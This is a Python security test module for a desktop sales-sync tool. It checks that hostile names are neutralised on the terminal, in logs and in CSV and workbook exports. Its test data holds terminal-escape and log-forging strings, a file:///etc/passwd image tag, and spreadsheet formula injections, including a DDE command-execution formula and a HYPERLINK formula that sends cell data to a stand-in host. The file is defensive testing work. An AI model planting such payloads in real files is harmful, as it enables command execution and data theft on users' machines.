"""Strangers' names on their way to a screen, a log, a spreadsheet: nothing in them may act there."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import random
import re
import sys
import tempfile
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import openpyxl
from starlette.types import Scope

from alegra_desktop.domain.problem import Kind, Problem
from alegra_desktop.domain.text import one_line
from alegra_desktop.practice.middleware import Answer
from alegra_desktop.terminal.records import CSV_COLUMNS, exact_json, write_csv
from alegra_desktop.terminal.screen import Terminal
from tests.cli.computer import HOTMART_NAME, MASTERSHOP_NAME
from tests.reliability.security.group import Group
from tests.reliability.security.machine import Machine, new_machine

DAYS = 3
#: Clears the screen, names the window, forges a line of the log, turns the writing round; and markup for a window.
HOSTILE = (
    "<b>Ana</b>\x1b[2J\x1b]0;owned\x07\r\n2026-10-01 00:00:00,000 ERROR forged: yes\n\x00\x9b31m\u202e\u2066"
    "\u2028\u200b\x7f<img src=file:///etc/passwd>&amp;"
)
_WIPE = "\r\x1b[2K"  # the one sequence that the program itself writes, before its progress
_LINE = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} (DEBUG|INFO|WARNING|ERROR|CRITICAL) [\w.]+: ")


def characters() -> Group:
    """Every character there is: one that can be seen stays, any other becomes a space."""
    group = Group("characters that steer")
    for start in range(0, sys.maxunicode + 1, 4096):
        block = "".join(map(chr, range(start, start + 4096)))
        shown = one_line(block)
        same = all(a == b if a.isprintable() else b == " " for a, b in zip(block, shown, strict=True))
        group.expect(shown.isprintable() and same, f"U+{start:04X} and following")
    out, err = io.StringIO(), io.StringIO()
    terminal = Terminal("es", out, err)
    terminal.say("saved", name=HOSTILE, done=HOSTILE, store=HOSTILE, company=HOSTILE, country=HOSTILE)
    terminal.notice("warning", words=HOSTILE)
    terminal.table([[HOSTILE, HOSTILE], ["a", HOSTILE]], right=1)
    terminal.json([{HOSTILE: HOSTILE}])
    for kind in Kind:
        terminal.complain(Problem(kind, HOSTILE, dict.fromkeys(("words", "reason", "product", "name"), HOSTILE)))
    for stream in (out, err):
        for line in stream.getvalue().split("\n"):
            group.expect(line.isprintable(), f"on the terminal: {line[:60]!r}")
    return group


def everywhere() -> Group:
    """The same with real processes: buyers, companies and refusals bear such names."""
    group = Group("names on screen and in the log")
    with tempfile.TemporaryDirectory() as folder, new_machine(Path(folder) / "machine") as machine:
        _hostile_names(machine)
        for name in (HOTMART_NAME, MASTERSHOP_NAME):
            machine.expect(machine.setup(name, days=DAYS), 0)
        machine.expect(machine.sync("--dry-run"), 0, 1)
        _sync_on_a_terminal(machine)
        machine.servers.apps["alegra"].error = _hostile_refusal
        machine.servers.faults.replace("http-401=1@GET /company")
        machine.expect(machine.sync(), 3)
        machine.expect(machine.sync("--json"), 3)
        machine.expect(machine.run("history"), 0)
        shown = machine.expect(machine.run("history", "--json"), 0)
        machine.expect(machine.run(program=(sys.executable, "-c", _SAYING, ascii(HOSTILE))), 3)
        names = [one["customer"] for one in shown.json]
        group.expect(any("<b>Ana</b>" in name and "<img" in name for name in names), "the name did not get there")
        for place, content in machine.written():
            _look(group, place, content.decode("utf-8", "replace"))
    return group


#: A warning and an exception that quote a name as it came.
_SAYING = """
import logging, sys
from alegra_desktop import cli
from alegra_desktop.vault import KeyringVault
name = sys.argv[1].encode("utf-8", "surrogateescape").decode("unicode-escape")
def broken(*arguments):
    logging.getLogger("any").warning("the buyer %s has no number", name)
    logging.getLogger("any").warning(name)
    raise ValueError(name) from KeyError(name)
KeyringVault.__init__ = broken
sys.exit(cli.main(["sync"]))
"""


def _hostile_names(machine: Machine) -> None:
    hotmart = machine.servers.hotmart
    for transaction in machine.due(DAYS):
        buyer = replace(hotmart.sales[transaction].buyer, name=HOSTILE)
        hotmart.change_sale(transaction, buyer=buyer)
    for company in machine.servers.alegra.companies.values():
        company.info["name"] = HOSTILE


def _hostile_refusal(status: int, scope: Scope) -> Answer:
    return Answer(403, json.dumps({"message": HOSTILE}).encode())


def _sync_on_a_terminal(machine: Machine) -> None:
    """With the progress that only a person sees."""
    ours, theirs = pty.openpty()
    process = machine.start("sync", stderr=theirs)
    os.close(theirs)
    seen = b""
    with suppress(OSError):  # the other end is closed: the program has ended
        while read := os.read(ours, 65536):
            seen += read
    os.close(ours)
    machine.expect(machine.finish(process), 0, 1)
    assert _WIPE.encode() in seen, "there was no progress to be seen"
    machine.texts.append(("a terminal", seen.replace(_WIPE.encode(), b"").replace(b"\r\n", b"\n")))


def _look(group: Group, place: str, text: str) -> None:
    if place in ("stdout", "stderr", "a terminal"):
        for line in text.split("\n"):
            group.expect(line.isprintable(), f"{place}: {line[:60]!r}")
    elif ".log" in place:
        for line in text.split("\n")[:-1]:
            group.expect(line.isprintable(), f"{place}: {line[:60]!r}")
            begins = line.startswith("    ") or (_LINE.match(line) and " ERROR forged: yes" not in line[:50])
            group.expect(begins, f"{place}: a forged line: {line[:60]!r}")


# --- exports ----------------------------------------------------------------------------------------------------------

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", '"=1', "'=1", "＝1", "＋1", "－1", "＠x",
    "\u200b=1", "\xa0=1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.invalid?"&A1;"x")', "=IMPORTXML(1)",
    "Ana,=1", "Ana;=1", "Ana\t=1", "Ana|=1", 'Ana","=1', 'Ana";"=1', "a\n=1", "a, +1", "-", "=", "--1", "-1e5",
    "+57 300 1112233", "-12,50", "DDE;@x", "\x00=1", "\ufeff=1", "٣=1", "-３",
)  # fmt: skip
_SIGNS = "=+-@＝＋－＠"
_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
_GUARD = re.compile(rf"""(^|[,;|])'(?=[\s"']*[{re.escape(_SIGNS)}])""")


def exports(count: int = 3000, first: int = 1) -> Group:
    """Payloads by hand, and `count` put together by chance: no reader finds a formula, and the text comes back."""
    group = Group("formulas in exports")
    texts = [*PAYLOADS, *(_by_chance(seed) for seed in range(first, first + count))]
    with tempfile.TemporaryDirectory() as folder:
        file = Path(folder) / "history.csv"
        write_csv(file, (_record(text) for text in texts))
        content = file.read_text("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(content, newline=""), delimiter=";"))
    group.expect(len(rows) == len(texts), f"{len(rows)} rows of {len(texts)}")
    for text, row in zip(texts, rows, strict=True):
        group.expect(row["total"] == "-12.50", f"{text!r}: the number became {row['total']!r}")
        back = row["customer"] if _NUMBER.fullmatch(text) else _GUARD.sub(r"\1", row["customer"])
        group.expect(back == one_line(text), f"{text!r} came back as {back!r}")
        again = json.loads(exact_json({"t": text, "n": Decimal("-12.50")}), parse_float=Decimal)
        group.expect(again == {"t": text, "n": Decimal("-12.50")}, f"{text!r} came back from JSON as {again!r}")
    for text in ("=1+1", ' "+1', "＝1", "-1+1"):
        group.expect(_live(text), f"the check does not see that {text!r} is a formula")
    for separator in ";,\t|":
        for cell in _cells(content, separator):
            group.expect(not _live(cell), f"with {separator!r} between cells: {cell!r}")
    _in_a_workbook(group, rows)
    return group


def _by_chance(seed: int) -> str:
    """A seed gives always the same text."""
    dice = random.Random(seed)
    return "".join(dice.choices("=+-@＝ \t\r\n\"',;|a1é\u202e\x00", k=dice.randint(1, 9)))


def _record(text: str) -> dict[str, object]:
    problem = {"kind": "x", "title": text}
    ours = {"integration": "Mi tienda", "total": Decimal("-12.50")}
    return {**dict.fromkeys(CSV_COLUMNS, text), **ours, "problem": problem}


def _cells(content: str, separator: str) -> Iterator[str]:
    """As a spreadsheet reads it whose list separator is this one."""
    for row in csv.reader(io.StringIO(content, newline=""), delimiter=separator):
        yield from row


def _live(cell: str) -> bool:
    """Whether a spreadsheet may run it, also one that takes blanks and quotes away first."""
    bare = "".join(char if char.isprintable() else " " for char in cell).lstrip(' "')
    return bare.startswith(tuple(_SIGNS)) and not _NUMBER.fullmatch(bare)


def _in_a_workbook(group: Group, rows: list[dict[str, str]]) -> None:
    """What somebody's script makes of it that copies each cell into a workbook."""
    sheet = openpyxl.Workbook().active
    assert sheet is not None
    for number, row in enumerate(rows, 1):
        for column, text in enumerate(row.values(), 1):
            cell = sheet.cell(number, column, text)
            group.expect(cell.data_type != "f", f"openpyxl takes {text!r} for a formula")
